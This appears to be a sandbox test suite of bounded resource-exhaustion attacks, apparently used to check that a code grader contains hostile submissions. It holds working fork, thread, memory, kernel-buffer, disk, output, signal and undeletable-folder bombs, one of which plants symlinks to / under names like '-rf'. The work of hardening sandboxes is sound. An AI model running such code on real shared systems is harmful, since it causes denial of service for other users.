# Use up memory, processes, files, descriptors, disk and patience. All of it is bounded: where
# nothing stops them, these end by themselves after a few GiB or a few hundred processes.

# attack: memory_bomb
# aim: take all memory in one process
# honest: 0
# unprotected: no
# %%
hoard = []
try:
    for _ in range(100):
        hoard.append(bytearray(64 << 20))
except MemoryError:
    hoard.clear()

# attack: memory_bomb_by_tensors
# aim: take all memory in a call
# honest: 0
# unprotected: no
# %%
import torch


def unrolled_ssm_forward(W, U, b, x):
    return [torch.ones(64 << 20) for _ in range(16)]

# attack: memory_in_many_processes
# aim: take in many processes what one may not have
# honest: 0
# unprotected: no
# %%
import os
import time

for _ in range(8):
    if os.fork() == 0:
        kept = b"x" * (400 << 20)
        time.sleep(60)
        os._exit(0)
time.sleep(4)

# attack: memory_that_is_shared
# aim: take memory that no limit of a process counts
# honest: 0
# unprotected: no
# %%
import ctypes
import mmap
import os

kept = []
for flags in (mmap.MAP_SHARED | mmap.MAP_ANONYMOUS, 0x122):
    try:
        for _ in range(20):
            kept.append(mmap.mmap(-1, 64 << 20, flags))
            kept[-1].write(b"x" * (64 << 20))
    except (OSError, ValueError):
        pass
try:
    file = os.memfd_create("bomb")
    for _ in range(20):
        os.write(file, b"x" * (64 << 20))
except OSError:
    pass

# attack: page_table_bomb
# aim: take the kernel's memory by reading from nowhere
# honest: 0
# unprotected: no
# %%
import mmap

vast = mmap.mmap(-1, 1 << 40, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS, mmap.PROT_READ)
for at in range(0, 1 << 40, 1 << 21):
    vast[at]

# attack: socket_buffer_bomb
# aim: take the kernel's memory by writing where nobody reads
# honest: 0
# unprotected: no
# %%
import os
import socket

pairs = []
try:
    for _ in range(2000):
        a, b = socket.socketpair()
        a.setblocking(False)
        a.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 20)
        pairs.append((a, b))
        try:
            while True:
                a.send(b"x" * 65536)
        except BlockingIOError:
            pass
except OSError:
    pass

# attack: fork_bomb
# aim: start processes without end
# honest: 0
# unprotected: no
# %%
import os
import time

for _ in range(300):
    try:
        if os.fork() == 0:
            time.sleep(60)
            os._exit(0)
    except OSError:
        break

# attack: thread_bomb
# aim: start threads without end
# honest: 0
# unprotected: no
# %%
import threading
import time

try:
    for _ in range(2000):
        threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
except RuntimeError:
    pass

# attack: descriptor_bomb
# aim: open files without end
# honest: 0
# %%
files = []
try:
    for _ in range(20_000):
        files.append(open("/dev/null"))
except OSError:
    pass

# attack: disk_bomb
# aim: fill the disk with many files
# honest: 0
# unprotected: no
# %%
try:
    for number in range(300):
        with open(f"file-{number}", "wb") as file:
            file.write(b"x" * (1 << 20))
except OSError:
    pass

# attack: disk_bomb_unseen
# aim: fill the disk with files that are deleted and still open
# honest: 0
# unprotected: no
# %%
import os

kept = []
for folder in (".", "/dev/shm", "/tmp", "/var/tmp"):
    try:
        for number in range(30):
            kept.append(open(f"{folder}/unseen-{number}", "wb", buffering=0))
            os.unlink(kept[-1].name)
            kept[-1].write(b"x" * (8 << 20))
    except OSError:
        pass

# attack: many_small_files
# aim: leave more files than can be cleared away
# honest: 0
# unprotected: no
# %%
try:
    for number in range(50_000):
        open(f"f{number}", "w").close()
except OSError:
    pass

# attack: deep_folders
# aim: leave folders too deep to be cleared away
# honest: 0
# unprotected: no
# %%
import os

try:
    for _ in range(4000):
        os.mkdir("d")
        os.chdir("d")
except OSError:
    pass

# attack: closed_folders
# aim: leave what its own user may not delete, under names that cannot be read
# honest: 0
# %%
import os

for name in (b"\xff\xfe", b"a\nb", b"-rf", b"\x1b[2J", b" ", b"*"):
    os.makedirs(os.path.join(name, b"inner"), exist_ok=True)
    os.symlink(b"/", os.path.join(name, b"link"))
    open(os.path.join(name, b"inner", b"file"), "w").close()
    os.chmod(name, 0)

# attack: output_bomb
# aim: print without end
# honest: 0
# unprotected: no
# %%
import os
import sys

line = "x" * (1 << 20)
for _ in range(2000):
    print(line)
for number in (1, 2):
    for _ in range(200):
        os.write(number, line.encode())

# attack: exception_bomb
# aim: raise an exception as long as a book, in every call
# honest: 0
# %%
def unrolled_ssm_forward(W, U, b, x):
    raise ValueError("x" * (64 << 20))


def make_conv_kernel(W, T):
    error = None
    for number in range(1000):
        try:
            raise ValueError("y" * 10_000) from error
        except ValueError as raised:
            error = raised
    raise error


raise ExceptionGroup("z" * 100_000, [ValueError(str(i)) for i in range(10_000)])

# attack: figure_bomb
# aim: draw figures without end
# honest: 0
# %%
import matplotlib.pyplot as plt

for _ in range(30):
    plt.figure(figsize=(50, 50)).canvas.draw()

# attack: signal_bomb
# aim: send itself signals faster than they can be handled
# honest: 0
# %%
import os
import signal

signal.signal(signal.SIGUSR1, lambda *a: None)
signal.setitimer(signal.ITIMER_REAL, 0.001, 0.001)
signal.signal(signal.SIGALRM, lambda *a: os.kill(os.getpid(), signal.SIGUSR1))
